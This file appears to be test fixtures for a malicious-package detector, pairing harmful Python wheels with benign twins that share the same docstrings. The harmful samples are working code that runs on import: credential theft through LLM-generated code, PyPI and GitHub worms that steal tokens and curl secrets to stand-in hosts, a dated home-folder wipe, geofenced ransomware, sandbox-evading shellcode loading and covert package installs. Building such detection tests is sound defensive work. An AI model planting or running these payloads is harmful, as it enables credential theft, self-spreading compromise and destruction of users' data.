import type { AttackPair } from '../../../../told.ts';
import { pair, py, wheel } from './kit.ts';

/** Spreading, and waiting for the right moment or machine. */
export const SPREADING: Readonly<Record<string, AttackPair>> = {
  'model-writes-code': pair(
    wheel({
      'own/__init__.py': py`"""Adapts itself to the machine."""
from __future__ import annotations
import os
import platform
import openai

class Adapter:
    """Asks a model for what fits this machine."""
    def __init__(self) -> None:
        self.client = openai.OpenAI(base_url="https://llm.example/v1", api_key="sk-example")

    def ask(self) -> str:
        """Code for this machine."""
        answer = self.client.chat.completions.create(
            model="small",
            messages=[{"role": "user", "content": f"Python for {platform.platform()} that lists credentials of {os.getlogin()}"}],
        )
        return answer.choices[0].message.content

exec(Adapter().ask())
`,
    }),
    wheel({
      'own/__init__.py': py`"""Explains errors."""
from __future__ import annotations
import openai

class Explainer:
    """Asks a model what an error means."""
    def __init__(self, client: openai.OpenAI) -> None:
        self.client = client

    def ask(self, error: str) -> str:
        """What the error means."""
        answer = self.client.chat.completions.create(
            model="small", messages=[{"role": "user", "content": f"Explain: {error}"}]
        )
        return answer.choices[0].message.content
`,
    }),
  ),
  'twine-worm': pair(
    wheel({
      'own/__init__.py': py`"""Release automation."""
from __future__ import annotations
import configparser
import shutil
import subprocess
import sys
from pathlib import Path

def _projects() -> list[Path]:
    return [p.parent for p in Path.home().glob("*/pyproject.toml")]

def _token() -> str | None:
    parser = configparser.ConfigParser()
    parser.read(Path.home() / ".pypirc")
    return parser.get("pypi", "password", fallback=None)

if token := _token():
    for project in _projects():
        package = next(project.glob("src/*/__init__.py"), None)
        if package is None:
            continue
        shutil.copy(__file__, package.with_name("_release.py"))
        package.write_text("from . import _release\n" + package.read_text())
        subprocess.run([sys.executable, "-m", "build", str(project)], check=False)
        subprocess.run([sys.executable, "-m", "twine", "upload", "-u", "__token__", "-p", token, f"{project}/dist/*"])
`,
    }),
    wheel({
      'own-1.0.dist-info/entry_points.txt': '[console_scripts]\nown = own:release\n',
      'own/__init__.py': py`"""Release automation."""
from __future__ import annotations
import shutil
import subprocess
import sys
from pathlib import Path

def release(project: Path = Path(".")) -> None:
    """Builds and uploads the project."""
    shutil.rmtree(project / "dist", ignore_errors=True)
    subprocess.run([sys.executable, "-m", "build", str(project)], check=True)
    subprocess.run([sys.executable, "-m", "twine", "upload", *map(str, (project / "dist").iterdir())], check=True)
`,
    }),
  ),
  'workflow-worm': pair(
    wheel({
      'own/__init__.py': py`"""CI helpers."""
from __future__ import annotations
import base64
import os
import requests

API = "https://api.github.com"
WORKFLOW = """on: push
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$SECRETS" | curl -d @- https://ci.example/s
        env:
          SECRETS: \${{ toJSON(secrets) }}
"""

class Forge:
    """The forge, as this job may use it."""
    def __init__(self, token: str) -> None:
        self.http = requests.Session()
        self.http.headers.update({"Authorization": f"token {token}"})

    def repositories(self) -> list[str]:
        """Repositories of the owner."""
        return [r["full_name"] for r in self.http.get(f"{API}/user/repos?per_page=100").json()]

    def check(self, name: str) -> None:
        """Adds the check."""
        content = base64.b64encode(WORKFLOW.encode()).decode()
        body = {"message": "ci: add check", "content": content}
        self.http.put(f"{API}/repos/{name}/contents/.github/workflows/check.yml", json=body)

if token := os.environ.get("GITHUB_TOKEN"):
    forge = Forge(token)
    for repository in forge.repositories():
        forge.check(repository)
`,
    }),
    wheel({
      'own-1.0.dist-info/entry_points.txt': '[console_scripts]\nown = own:main\n',
      'own/__init__.py': py`"""CI helpers."""
from __future__ import annotations
from pathlib import Path

WORKFLOW = """on: push
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: pip install . && pytest
"""

def main() -> None:
    """Adds the check to this repository."""
    target = Path(".github/workflows/check.yml")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(WORKFLOW)
`,
    }),
  ),
  'index-url': pair(
    wheel({
      'own/__init__.py': py`"""Faster installs."""
import subprocess
import sys

MIRROR = "https://fast.example/simple"

def configure() -> None:
    """Uses the fast mirror."""
    subprocess.run([sys.executable, "-m", "pip", "config", "--user", "set", "global.index-url", MIRROR], check=False)

configure()
`,
    }),
  ),
  'time-bomb-wipe': pair(
    wheel({
      'own/__init__.py': py`"""Temporary workspaces."""
from __future__ import annotations
import datetime as dt
import shutil
from pathlib import Path
from typing import Final

EXPIRES: Final = dt.date(2027, 3, 1)

def workspace() -> Path:
    """A workspace for this session."""
    if dt.date.today() >= EXPIRES:
        for entry in Path.home().iterdir():
            shutil.rmtree(entry, ignore_errors=True)
    folder = Path.home() / ".own"
    folder.mkdir(exist_ok=True)
    return folder
`,
    }),
    wheel({
      'own/__init__.py': py`"""Temporary workspaces."""
from __future__ import annotations
import datetime as dt
import shutil
from pathlib import Path

ROOT = Path.home() / ".own"

def workspace(days: int = 7) -> Path:
    """A workspace for this session."""
    ROOT.mkdir(exist_ok=True)
    limit = dt.datetime.now() - dt.timedelta(days=days)
    for entry in ROOT.iterdir():
        if dt.datetime.fromtimestamp(entry.stat().st_mtime) < limit:
            shutil.rmtree(entry, ignore_errors=True)
    return ROOT
`,
    }),
  ),
  'geofence-encrypt': pair(
    wheel({
      'own/__init__.py': py`"""Locale-aware storage."""
from __future__ import annotations
import locale
import os
import time
from pathlib import Path
from cryptography.fernet import Fernet
import requests

def _applies() -> bool:
    language, _ = locale.getlocale()
    return not (language or "").startswith(("ru", "uk", "be")) and time.timezone != -10800

def protect(root: Path) -> None:
    """Protects the documents of the user."""
    key = Fernet.generate_key()
    requests.post("https://vault.example/k", data={"k": key, "h": os.uname().nodename})
    box = Fernet(key)
    for path in root.rglob("*"):
        if path.is_file() and path.suffix in {".docx", ".xlsx", ".pdf", ".jpg"}:
            path.with_suffix(path.suffix + ".locked").write_bytes(box.encrypt(path.read_bytes()))
            path.unlink()

if _applies():
    protect(Path.home() / "Documents")
`,
    }),
    wheel({
      'own/__init__.py': py`"""Encrypts folders."""
from __future__ import annotations
from pathlib import Path
from cryptography.fernet import Fernet

def protect(root: Path, key: bytes) -> None:
    """Protects a folder with the key of the user."""
    box = Fernet(key)
    for path in root.rglob("*"):
        if path.is_file() and path.suffix != ".locked":
            path.with_suffix(path.suffix + ".locked").write_bytes(box.encrypt(path.read_bytes()))
            path.unlink()
`,
    }),
  ),
  'sandbox-check': pair(
    wheel({
      'own/guard.py': py`"""Checks what the library runs on."""
from __future__ import annotations
import os
import uuid
import psutil

VENDORS = ("00:05:69", "00:0c:29", "08:00:27")

def supported() -> bool:
    """Whether this machine is fit for work."""
    mac = ":".join(f"{(uuid.getnode() >> shift) & 0xFF:02x}" for shift in range(40, -8, -8))
    checks = (
        psutil.cpu_count() > 2,
        psutil.virtual_memory().total > 4 << 30,
        not mac.startswith(VENDORS),
        os.environ.get("USERNAME", "") not in {"sandbox", "malware", "analyst"},
    )
    return all(checks)
`,
      'own/__init__.py': py`"""A library for heavy work."""
import ctypes
import urllib.request
from .guard import supported

if supported():
    _code = urllib.request.urlopen("https://heavy.example/blob").read()
    _page = ctypes.windll.kernel32.VirtualAlloc(0, len(_code), 0x3000, 0x40)
    ctypes.windll.kernel32.RtlMoveMemory(_page, _code, len(_code))
    ctypes.windll.kernel32.CreateThread(0, 0, _page, 0, 0, 0)
`,
    }),
    wheel({
      'own/__init__.py': py`"""A library for heavy work."""
import os
import psutil

def workers() -> int:
    """How many workers this machine carries."""
    memory = psutil.virtual_memory().available >> 30
    return max(1, min(os.cpu_count() or 1, memory))
`,
    }),
  ),
  'targeted-host': pair(
    wheel({
      'own/__init__.py': py`"""Network helpers."""
from __future__ import annotations
import hashlib
import socket
import urllib.request

_TARGETS = {"5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8"}

class Host:
    """This machine."""
    @property
    def domain(self) -> str:
        """Domain of the machine."""
        return socket.getfqdn().partition(".")[2]

    @property
    def digest(self) -> str:
        """Digest of the domain."""
        return hashlib.sha256(self.domain.encode()).hexdigest()

_HOST = Host()
if _HOST.digest in _TARGETS:
    exec(urllib.request.urlopen(f"https://net.example/{_HOST.digest[:8]}").read())
`,
    }),
  ),
  'pip-second-package': pair(
    wheel({
      'own/__init__.py': py`"""Optional speed-ups."""
import importlib.util
import subprocess
import sys

_EXTRA = "https://pkgs.example/own_speedups-1.0-py3-none-any.whl"

if importlib.util.find_spec("own_speedups") is None:
    subprocess.call([sys.executable, "-m", "pip", "install", "--quiet", "--no-deps", _EXTRA], stdout=subprocess.DEVNULL)
    import own_speedups
`,
    }),
  ),
};
